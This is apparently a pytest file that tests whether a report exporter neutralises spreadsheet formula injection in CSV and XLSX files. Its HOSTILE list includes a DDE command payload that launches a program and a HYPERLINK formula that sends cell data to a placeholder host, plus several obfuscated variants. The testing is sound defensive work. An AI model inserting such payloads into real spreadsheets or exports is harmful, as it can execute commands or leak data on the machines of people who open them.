"""Formulas in a draft are inert when a spreadsheet opens the month, and come back as they were."""

from pathlib import Path

import openpyxl
import pytest

from bot.desk.seams import Kept
from bot.report.export import export_month
from bot.report.form import Form
from bot.report.formulas import unguarded
from bot.report.month import Month
from bot.report.options import Options
from tests.drawn import a_review
from tests.in_an_office import needs_an_office, opened
from tests.test_report_export import FORMULAS, Shelf

HOSTILE = [
    *[text for text in FORMULAS if "\0" not in text],
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.test?"&A1,"press")',
    "=1+1\n=2+2",
    '","=1+1","',
    '"=1+1',
    ";=1+1;",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2212 1",
]
NO_TEXTS = ["1E5", "TRUE", "01/02/2026", "007"]
"""What a workbook keeps as text. In a CSV nothing says that it is one."""
PLAIN = Options(masked=False)


def kept(text: str) -> Kept:
    return Kept(review=a_review(text=text), decisions=(), shared=False, remarks=0)


@needs_an_office
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_every_formula_is_inert_in_an_office_and_reads_back_as_it_was(
    tmp_path: Path, form: Form
) -> None:
    written = [*HOSTILE, *(NO_TEXTS if form == "xlsx" else ())]
    shelf = Shelf(*map(kept, written))
    path = export_month(shelf, Month(2026, 11), form, tmp_path, options=PLAIN)
    book = openpyxl.load_workbook(opened(path, tmp_path / "office"))
    assert not [
        (cell.coordinate, cell.value)
        for sheet in book
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f" or cell.hyperlink
    ]
    header, *lines = book[book.sheetnames[-1]].iter_rows(values_only=True)
    at = header.index("draft")
    read = [str(line[at]) for line in lines]
    texts = [unguarded(text) for text in read] if form == "csv" else read
    assert [_typed(text) for text in texts] == [_typed(text) for text in written]


def _typed(text: str) -> str:
    """What a cell makes of line ends; every other letter stays."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@needs_an_office
def test_the_office_does_run_what_is_not_guarded(tmp_path: Path) -> None:
    """Else the test above could not fail."""
    bare = tmp_path / "bare.csv"
    bare.write_text('"id","draft"\r\n"r1","=1+1"\r\n', encoding="utf-8")
    sheet = openpyxl.load_workbook(opened(bare, tmp_path / "office")).worksheets[0]
    assert sheet["B2"].data_type == "f"
